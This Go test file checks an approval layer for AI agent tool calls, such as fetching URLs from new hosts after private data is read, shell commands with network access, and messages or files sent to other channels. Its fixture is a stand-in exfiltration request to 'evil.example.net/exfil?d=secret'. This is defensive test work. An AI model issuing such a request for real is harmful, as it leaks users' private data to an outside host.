package approval

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

func TestDecide(t *testing.T) {
	exfil := json.RawMessage(`{"url":"https://evil.example.net/exfil?d=secret"}`)
	tests := []struct {
		name   string
		policy Policy
		sit    Situation
		need   bool
		reason string // a part of the reason
	}{
		{"never", Never, Situation{Tool: "fetch_url", Arguments: exfil, PrivateRead: true}, false, ""},
		{"always", Always, Situation{Tool: "write_file", Arguments: json.RawMessage(`{}`)}, true, "always"},
		{"new host", NewHosts, Situation{Tool: "fetch_url", Arguments: exfil}, true, "evil.example.net"},
		{"host the user named", NewHosts, Situation{Tool: "fetch_url", Arguments: exfil, UserHosts: []string{"evil.example.net"}}, false, ""},
		{"subdomain of a host the user named", NewHosts, Situation{Tool: "fetch_url", Arguments: exfil, UserHosts: []string{"example.net"}}, false, ""},
		{"suffix that is not a subdomain", NewHosts, Situation{Tool: "fetch_url", Arguments: exfil, UserHosts: []string{"ple.net"}}, true, ""},
		{"host case and trailing dot", NewHosts, Situation{Tool: "fetch_url", Arguments: json.RawMessage(`{"url":"https://Docs.Go.Dev./x"}`), UserHosts: []string{"go.dev"}}, false, ""},
		{"unparsable url never matches", NewHosts, Situation{Tool: "fetch_url", Arguments: json.RawMessage(`{"url":"::not a url"}`), UserHosts: []string{"not"}}, true, ""},
		{"no url argument", NewHosts, Situation{Tool: "search_web", Arguments: json.RawMessage(`{"query":"x"}`)}, false, ""},
		{"new host before private data was read", NewHostsAfterPrivate, Situation{Tool: "fetch_url", Arguments: exfil}, false, ""},
		{"new host after private data was read", NewHostsAfterPrivate, Situation{Tool: "fetch_url", Arguments: exfil, PrivateRead: true}, true, "private data"},
		{"named host after private data was read", NewHostsAfterPrivate, Situation{Tool: "fetch_url", Arguments: exfil, PrivateRead: true, UserHosts: []string{"evil.example.net"}}, false, ""},
		{"shell without network", Network, Situation{Tool: "execute_shell", Arguments: json.RawMessage(`{"command":"ls"}`)}, false, ""},
		{"shell with network", Network, Situation{Tool: "execute_shell", Arguments: json.RawMessage(`{"command":"ls"}`), ShellNetwork: true}, true, "network"},
		{"same channel", OtherChannels, Situation{Tool: "send_to_channel", Arguments: json.RawMessage(`{"channel":"web","text":"hi"}`), Channel: "web"}, false, ""},
		{"other channel", OtherChannels, Situation{Tool: "send_to_channel", Arguments: json.RawMessage(`{"channel":"telegram","text":"hi"}`), Channel: "web"}, true, "telegram"},
		{"file to this conversation", OtherChannels, Situation{Tool: "telegram_send_file", Arguments: json.RawMessage(`{"path":"a.png"}`), Channel: "telegram", Thread: "telegram:42"}, false, ""},
		{"file to this conversation by bare id", OtherChannels, Situation{Tool: "telegram_send_file", Arguments: json.RawMessage(`{"path":"a.png","thread":"42"}`), Channel: "telegram", Thread: "telegram:42"}, false, ""},
		{"file to another chat", OtherChannels, Situation{Tool: "telegram_send_file", Arguments: json.RawMessage(`{"path":"a.png","thread":"telegram:43"}`), Channel: "telegram", Thread: "telegram:42"}, true, "telegram:43"},
		{"file to a chat by bare id from the web", OtherChannels, Situation{Tool: "telegram_send_file", Arguments: json.RawMessage(`{"path":"a.png","thread":"42"}`), Channel: "web", Thread: "web:a"}, true, "42"},
		{"file to this Matrix room by bare room id", OtherChannels, Situation{Tool: "matrix_send_file", Arguments: json.RawMessage(`{"path":"a.png","thread":"!r:hs.org"}`), Channel: "matrix", Thread: "matrix:!r:hs.org"}, false, ""},
		{"file to another Matrix room", OtherChannels, Situation{Tool: "matrix_send_file", Arguments: json.RawMessage(`{"path":"a.png","thread":"!other:hs.org"}`), Channel: "matrix", Thread: "matrix:!r:hs.org"}, true, "!other:hs.org"},
		{"other channel from a background task", OtherChannels, Situation{Tool: "send_to_channel", Arguments: json.RawMessage(`{"channel":"telegram","text":"hi"}`)}, true, "background"},
		{"unknown policy runs", Policy("sometimes"), Situation{Tool: "x"}, false, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			need, reason := Decide(tc.policy, tc.sit)
			if need != tc.need {
				t.Fatalf("need = %v (%q), want %v", need, reason, tc.need)
			}
			if need && !strings.Contains(reason, tc.reason) {
				t.Errorf("reason %q does not mention %q", reason, tc.reason)
			}
		})
	}
}

func TestDefaultPolicies(t *testing.T) {
	for name, p := range DefaultPolicies() {
		if !p.Valid() {
			t.Errorf("default policy of %s is invalid: %q", name, p)
		}
	}
	if DefaultPolicies()["fetch_url"] != NewHostsAfterPrivate || DefaultPolicies()["send_to_channel"] != OtherChannels {
		t.Errorf("defaults = %v", DefaultPolicies())
	}
}

func TestHostsIn(t *testing.T) {
	tests := []struct {
		name string
		text string
		want []string
	}{
		{"url", "read https://Go.dev/doc/effective_go please", []string{"go.dev"}},
		{"bare names", "compare example.org and docs.python.org.", []string{"example.org", "docs.python.org"}},
		{"ip and port", "fetch http://192.168.1.10:8080/x", []string{"192.168.1.10"}},
		{"duplicates", "example.org, example.org", []string{"example.org"}},
		{"no host", "what is 3.14 times 2?", nil},
		{"file names are not hosts with a long tld", "open notes.txt", []string{"notes.txt"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := HostsIn(tc.text); !slices.Equal(got, tc.want) {
				t.Errorf("HostsIn(%q) = %v, want %v", tc.text, got, tc.want)
			}
		})
	}
}
